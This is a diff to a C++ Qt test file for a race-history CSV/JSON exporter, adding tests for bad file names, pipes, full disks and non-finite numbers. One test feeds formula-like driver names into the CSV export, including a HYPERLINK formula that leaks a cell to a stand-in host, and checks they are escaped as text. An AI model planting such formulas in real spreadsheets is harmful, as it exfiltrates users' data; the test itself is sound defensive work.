@@ -1,13 +1,19 @@
 #include "Verlaufsexport.h"
 
+#include "KleinerDatentraeger.h"
 #include "QtAusgabe.h"
 #include "Verlaufsspeicher.h"
 #include "Verlaufstest.h"
 
 #include <QFile>
+#include <QFileInfo>
 #include <QJsonArray>
 #include <QJsonDocument>
 #include <QJsonObject>
+#include <QSqlError>
+#include <QSqlQuery>
+#include <sys/stat.h>
+#include <thread>
 
 namespace {
 struct Exportordner : Verlaufsordner {
@@ -30,7 +36,9 @@ struct Exportordner : Verlaufsordner {
     QByteArray exportieren(const QString& name, std::optional<qint64> nur = std::nullopt) {
         Verlaufsabfragen abfragen(db);
         const QString ziel = QDir(ordner.path()).filePath(name);
-        EXPECT_EQ(verlaufExportieren(abfragen, ziel, nur), std::nullopt);
+        EXPECT_EQ(verlaufExportieren(ziel, nur ? einRennen(nur, *abfragen.rennen(*nur))
+                                               : alleRennen(abfragen, {})),
+                  std::nullopt);
         QFile datei(ziel);
         return datei.open(QIODevice::ReadOnly) ? datei.readAll() : QByteArray();
     }
@@ -100,13 +108,91 @@ TEST(Verlaufsexport, JsonMitZahlenAlsZahlenUndIsoDaten) {
 TEST(Verlaufsexport, FalscheEndungOderUnerreichbarerOrtSchreibtNichts) {
     Exportordner o;
     Verlaufsabfragen abfragen(o.db);
-    EXPECT_EQ(verlaufExportieren(abfragen, QDir(o.ordner.path()).filePath(QStringLiteral("a.txt"))),
-              "Der Dateiname muss auf .csv oder .json enden.");
-    EXPECT_NE(
-        verlaufExportieren(abfragen, QDir(o.ordner.path()).filePath(QStringLiteral("fehlt/a.csv"))),
-        std::nullopt);
-    EXPECT_EQ(
-        verlaufExportieren(abfragen, QDir(o.ordner.path()).filePath(QStringLiteral("a.csv")), 7),
-        "Das Rennen gibt es nicht mehr.");
+    const auto nach = [&](const QString& name) {
+        return verlaufExportieren(QDir(o.ordner.path()).filePath(name), alleRennen(abfragen, {}));
+    };
+    EXPECT_EQ(nach(QStringLiteral("a.txt")), "Der Dateiname muss auf .csv oder .json enden.");
+    EXPECT_EQ(nach(QStringLiteral("fehlt/a.csv")), "Der Ordner fehlt.");
     EXPECT_EQ(o.dateien().filter(QStringLiteral("a.")), QStringList{});
+}
+
+// A name typed like a formula is text in the spreadsheet; a negative number stays a number.
+TEST(Verlaufsexport, CsvZelleDieWieEineFormelBeginntBleibtText) {
+    Verlaufsordner o;
+    Verlaufsdatenbank db(o.pfad);
+    ASSERT_TRUE(db.vorbereiten().beschreibbar);
+    const QStringList namen{"=1+2",      "=HYPERLINK(\"http://x.example/?\"&A1)",
+                            "+49 170",   "@SUMME(A1)",
+                            "\tTab",     "\rWagen",
+                            "-Minus",    "-",
+                            "-5 Runden", "Anna-Lena =1"};
+    for (qsizetype i = 0; i + 1 < namen.size(); i += 2)
+        ASSERT_EQ(Verlaufsspeicher(db).speichern(rennen(namen[i], {3}, namen[i + 1], {4})),
+                  std::nullopt);
+    Verlaufsabfragen abfragen(db);
+    const QString ziel = QDir(o.ordner.path()).filePath(QStringLiteral("formeln.csv"));
+    ASSERT_EQ(verlaufExportieren(ziel, alleRennen(abfragen, {})), std::nullopt);
+    QFile datei(ziel);
+    ASSERT_TRUE(datei.open(QIODevice::ReadOnly));
+    const QString csv = QString::fromUtf8(datei.readAll());
+    QStringList fahrer;
+    for (const QString& zeile : csv.split(QStringLiteral("\r\n")).mid(1, namen.size()))
+        fahrer << zeile.section(QLatin1Char(';'), 5, -5);
+    EXPECT_EQ(fahrer, (QStringList{"'=1+2", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\"",
+                                   "'+49 170", "'@SUMME(A1)", "'\tTab", "\"'\rWagen\"", "'-Minus",
+                                   "'-", "-5 Runden", "Anna-Lena =1"}));
+}
+
+TEST(Verlaufsexport, UnendlicheWerteWerdenInJsonZuNull) {
+    Exportordner o;
+    ASSERT_TRUE(QSqlQuery(o.db.db()).exec(QStringLiteral("UPDATE rennen SET kurslaenge = -1e999")));
+    QJsonParseError fehler{};
+    const QJsonDocument doc =
+        QJsonDocument::fromJson(o.exportieren(QStringLiteral("a.json")), &fehler);
+    ASSERT_EQ(fehler.error, QJsonParseError::NoError) << fehler.errorString().toStdString();
+    EXPECT_EQ(doc[QStringLiteral("rennen")][1][QStringLiteral("kurslaenge")], QJsonValue::Null);
+}
+
+// A named pipe stays a pipe: the command line writes into it for whoever reads, the window
+// refuses it at once rather than wait for a reader. A device that is full says so.
+TEST(Verlaufsexport, PipeUndGeraetWerdenNieDurchEineDateiErsetzt) {
+    Exportordner o;
+    Verlaufsabfragen abfragen(o.db);
+    const QString pipe = QDir(o.ordner.path()).filePath(QStringLiteral("pipe.csv"));
+    ASSERT_EQ(mkfifo(QFile::encodeName(pipe).constData(), 0600), 0);
+
+    QByteArray gelesen;
+    std::thread leser([&] {
+        QFile aus(pipe);
+        if (aus.open(QIODevice::ReadOnly))
+            gelesen = aus.readAll();
+    });
+    EXPECT_EQ(verlaufExportieren(pipe, alleRennen(abfragen, {})), std::nullopt);
+    leser.join();
+    EXPECT_TRUE(gelesen.startsWith("\xEF\xBB\xBFRennen;Datum;")) << gelesen.left(80).toStdString();
+    EXPECT_EQ(gelesen.count('\n'), 9) << "a heading and seven laps, one name of two lines";
+
+    const std::optional<QString> abgelehnt =
+        verlaufExportieren(pipe, alleRennen(abfragen, {}), Sonderdatei::Ablehnen);
+    ASSERT_NE(abgelehnt, std::nullopt);
+    EXPECT_TRUE(abgelehnt->startsWith("Das ist keine gewöhnliche Datei"))
+        << abgelehnt->toStdString();
+    EXPECT_TRUE(QFileInfo(pipe).exists() && !QFileInfo(pipe).isFile()) << "still a pipe";
+
+    const QString voll = QDir(o.ordner.path()).filePath(QStringLiteral("voll.json"));
+    ASSERT_TRUE(QFile::link(QStringLiteral("/dev/full"), voll));
+    EXPECT_EQ(verlaufExportieren(voll, alleRennen(abfragen, {})), "Der Datenträger ist voll.");
+}
+
+TEST(Verlaufsexport, VollerDatentraegerNenntDenGrundUndHinterlaesstNichts) {
+    Exportordner o;
+    KleinerDatentraeger klein(64);
+    if (!klein.bereit())
+        GTEST_SKIP() << "no tmpfs of our own (not root)";
+    Verlaufsabfragen abfragen(o.db);
+    klein.fuellen();
+    EXPECT_EQ(verlaufExportieren(klein.pfad(QStringLiteral("a.csv")), alleRennen(abfragen, {})),
+              "Der Datenträger ist voll.");
+    EXPECT_EQ(QDir(klein.pfad()).entryList(QDir::Files | QDir::Hidden), QStringList{"fuellung"})
+        << "no part of a file left behind";
 }
